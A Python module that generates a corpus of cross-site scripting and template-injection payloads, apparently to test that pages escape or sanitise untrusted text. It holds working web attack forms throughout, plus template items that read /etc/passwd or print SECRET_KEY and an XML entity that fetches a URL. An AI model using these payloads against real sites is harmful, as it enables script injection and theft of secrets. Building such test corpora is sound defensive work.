"""Texts that would run a script or request an address if a page treated them as markup.

They combine a statement, an element that holds it, and a prefix that breaks out of the context. ``§js§`` is
replaced by the statement, ``§url§`` by an address that must not be requested, ``§n§`` by the number.
Most run on a page without escaping; the others target Markdown, templates and JSON.
"""

from collections.abc import Iterator

# Used in turns. None contains a quote, which some contexts do not allow.
STATEMENTS = ("mark(§n§)", "alert(§n§)", "top.mark(§n§)", "mark`§n§`")
# What a payload closes to reach a context where markup starts.
BREAKERS = ("", '">', "'>", "</textarea></title></style></script>", "-->")
SCRIPTS = (
    "<script>§js§</script>",
    "<ScRiPt>§js§</sCrIpT>",
    "<script >§js§</script >",
    "<script/x>§js§</script>",
    "<script\n>§js§</script\n>",
    "<script type=module>§js§</script>",
    "<script src=§url§></script>",
    "<script src=//§host§/§n§ defer></script>",
    "<scr<script>ipt>§js§</scr</script>ipt>",
    "<<script>§js§//<</script>",
    "<svg><script>§js§</script></svg>",
    "<svg><script href=§url§ /></svg>",
    "<math><script>§js§</script></math>",
    "<script>§js§",
)
# Elements that call a handler without interaction. The handler's value is added.
ELEMENTS = (
    "<img src=x onerror=§>",
    "<img/src=x/onerror=§>",
    "<img src=x\nonerror=§\n>",
    "<img src=x\tonerror\t=\t§>",
    "<IMG SRC=x ONERROR=§>",
    "<img src onerror=§ //",
    "<image src=x onerror=§>",
    "<body onload=§>",
    "<body onpageshow=§>",
    "<video><source onerror=§></video>",
    "<video src=x onerror=§></video>",
    "<audio src=x onerror=§></audio>",
    "<details open ontoggle=§>x</details>",
    "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§></select>",
    "<textarea autofocus onfocus=§></textarea>",
    "<button autofocus onfocus=§>x</button>",
    "<div tabindex=0 autofocus onfocus=§>x</div>",
    "<iframe onload=§></iframe>",
    "<object data=x onerror=§></object>",
    "<link rel=stylesheet href=x onerror=§>",
    "<style onload=§></style>",
    "<x contenteditable autofocus onfocus=§>x</x>",
    "<svg onload=§>",
    "<svg/onload=§>",
    "<svg><image href=x onerror=§></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s></svg>",
    "<svg><set onbegin=§ attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    "<svg><desc><img src=x onerror=§></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=§>",
    "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
)  # fmt: skip
QUOTES = ("", '"', "'")
# What ends an attribute value and adds attributes, by the kind of quote.
ATTRIBUTES = (
    "§q§ autofocus onfocus=§js§ x=§q§",
    "§q§ tabindex=1 autofocus onfocus=§js§ x=§q§",
    "§q§ onmouseover=§js§ style=position:fixed;inset:0 x=§q§",
    "§q§/autofocus/onfocus=§js§ x=§q§",
    "§q§ oncontentvisibilityautostatechange=§js§ style=display:block;content-visibility:auto x=§q§",
    "§q§ style=background:url(§url§) x=§q§",
    "§q§ srcdoc=<script>top.mark(§n§)</script> x=§q§",
    "§q§ formaction=javascript:§js§ x=§q§",
)
ADDRESSES = (
    "javascript:§js§",
    "JaVaScRiPt:§js§",
    "java\tscript:§js§",
    " \x01javascript:§js§",
    "&#106;avascript:§js§",
    "javascript&colon;§js§",
    "javascript:%0a§js§",
    "data:text/html,<script>top.mark(§n§)</script>",
    "vbscript:mark(§n§)",
    "//§host§/§n§",
    "§url§",
)
# Elements that request an address immediately or on a click.
CARRIERS = (
    "§",
    '<a href="§">x</a>',
    '<iframe src="§"></iframe>',
    '<form action="§"><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url=§">',
    '<base href="§">',
    '<object data="§"></object>',
    '<embed src="§">',
    '<svg><a xlink:href="§"><text y=9>x</text></a></svg>',
    '<img src="§">',
    '<link rel=stylesheet href="§">',
    '<link rel=prefetch href="§">',
    '<video poster="§" src="§"></video>',
    '<input type=image src="§">',
)
MARKDOWN = (
    "[x](§)",
    "![x](§)",
    "<§>",
    "[x]\n\n[x]: §",
    "![x]\n\n[x]: <§>",
    "[![x](§)](§)",
    '[x](§ "x\\" onmouseover=\\"mark(1)")',
    "[x](<§>)",
)
MARKDOWN_BREAKERS = (
    '![x](x"onerror="§js§)',
    '[x](x"onmouseover="§js§"x)',
    '```" onload="§js§\nx\n```',
    "```html\n<script>§js§</script>\n```\n<script>§js§</script>",
    "| a |\n|---|\n| <img src=x onerror=§js§> |",
    "# <script>§js§</script>",
    "> <script>§js§</script>",
    "<div>\n\n<script>§js§</script>\n\n</div>",
    "`<img src=x`onerror=§js§>",
    "\\<script\\>§js§\\</script\\>",
    "a  \n<svg onload=§js§>",
    "~~<img src=x onerror=§js§>~~",
    "[x](x)<!-- -->{onclick=§js§}",
    "&lt;script&gt;§js§&lt;/script&gt;",
)
TEMPLATES = (
    "{{ 7|add:7 }}<script>§js§</script>",
    '{{ "<script>§js§</script>"|safe }}',
    "{% autoescape off %}<script>§js§</script>{% endautoescape %}",
    "{% debug %}<img src=x onerror=§js§>",
    '{% include "/etc/passwd" %}',
    "{{ request.META }}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('§js§')()}}",
    "{{$on.constructor('§js§')()}}",
    "${§js§}",
    "#{§js§}",
    "<%= §js§ %>",
    "<?php echo 1 ?><script>§js§</script>",
    "{{{<script>§js§</script>}}}",
    "[[§js§]]",
    "{%%}%(x)s{0}%s%n<script>§js§</script>",
    "%(x)s %s %d {} {0} {x}<svg onload=§js§>",
    "<div v-html=\"'<img src=x onerror=§js§>'\">",
    "<div x-data x-init=§js§>",
    "<div ng-app ng-init=§js§>",
    "<div hx-get=§url§ hx-trigger=load></div>",
    "<div hx-get=//§host§/§n§ hx-trigger=load hx-swap=outerHTML></div>",
    "<div data-hx-get=§url§ data-hx-trigger=load></div>",
    "<div hx-on:htmx:load=§js§></div>",
    "<div hx-on::load=§js§></div>",
    "<div hx-vals=js:{x:§js§} hx-get=/ hx-trigger=load></div>",
    '<div id="detail" hx-swap-oob="true"><img src=x onerror=§js§></div>',
    '<div hx-ext="ws" ws-connect="ws://§host§/§n§"></div>',
)  # fmt: skip
COMMENTS = (
    "<!--><script>§js§</script>-->",
    "<!-- --!><script>§js§</script>-->",
    "<!---><img src=x onerror=§js§>",
    "]]><script>§js§</script>",
    "<![CDATA[<script>§js§</script>]]>",
    "<svg><![CDATA[><img src=x onerror=§js§>]]></svg>",
    "*/§js§/*",
    "*/</script><script>§js§/*",
    '"}</script><script>§js§</script>',
    "\"}];§js§;//",
    "';§js§;//",
    '";§js§;//',
    "\\';§js§;//",
    '\\";§js§;//',
    "`;§js§;//",
    "\\u003cscript\\u003e§js§\\u003c/script\\u003e",
    "\\x3cscript\\x3e§js§\\x3c/script\\x3e",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '§url§'>]>&y;",
    "<?xml-stylesheet href='§url§'?>",
    "<plaintext><script>§js§</script>",
    "<xmp></xmp><script>§js§</script>",
    "<template></template><script>§js§</script>",
    "<select><template><script>§js§</script></template></select><svg onload=§js§>",
)  # fmt: skip
UNICODE = (
    "\uff1cscript\uff1e§js§\uff1c/script\uff1e",
    "<\u017fcript>§js§</\u017fcript>",
    "<scr\u0131pt>§js§</scr\u0131pt>",
    "<\u200bscript>§js§</script>",
    "<script\u200b>§js§</script>",
    "<script\u00a0>§js§</script>",
    "\u202e<script>§js§</script>",
    "\u2066<img src=x onerror=§js§>\u2069",
    "\ufeff<script>§js§</script>",
    "\u2028<script>§js§</script>\u2029",
    "<img src=x onerror\u3000=§js§>",
    "<img\u000csrc=x\u000conerror=§js§>",
    "<img\u000bsrc=x onerror=§js§>",
    "<a\u0301><svg onload=§js§>",
    "\u226e<script>§js§</script>\u226f",
    "\u2039script\u203a§js§\u2039/script\u203a",
    "%3Cscript%3E§js§%3C/script%3E",
    "%253Cscript%253E§js§%253C/script%253E",
    "%C0%BCscript%C0%BE§js§",
    "&#60;script&#62;§js§&#60;/script&#62;",
    "&#x3c;img src=x onerror=§js§&#x3e;",
    "&amp;lt;script&amp;gt;§js§",
    "+ADw-script+AD4-§js§+ADw-/script+AD4-",
    "\U000e003cscript\U000e003e§js§<svg onload=§js§>",
)


def payload_forms() -> list[str]:
    """Return all payloads without duplicates, with placeholders."""
    return list(dict.fromkeys(_all_forms()))


def filled(form: str, number: int, host: str) -> str:
    """Return the payload as it is stored. ``host`` is a host and port that must not be requested."""
    statement = STATEMENTS[number % len(STATEMENTS)]
    form = form.replace("§js§", statement).replace("§url§", f"http://{host}/{number}")
    return form.replace("§host§", host).replace("§n§", str(number))


def _all_forms() -> Iterator[str]:
    for breaker in BREAKERS:
        yield from (breaker + script for script in SCRIPTS)
        yield from (breaker + element.replace("§", "§js§") for element in ELEMENTS)
    for quote in QUOTES:
        yield from (element.replace("§", f"{quote}§js§{quote}") for element in ELEMENTS)
        yield from (attribute.replace("§q§", quote or " ") for attribute in ATTRIBUTES)
    for address in ADDRESSES:
        yield from (carrier.replace("§", address) for carrier in (*CARRIERS, *MARKDOWN))
    yield from (*MARKDOWN_BREAKERS, *TEMPLATES, *COMMENTS, *UNICODE)
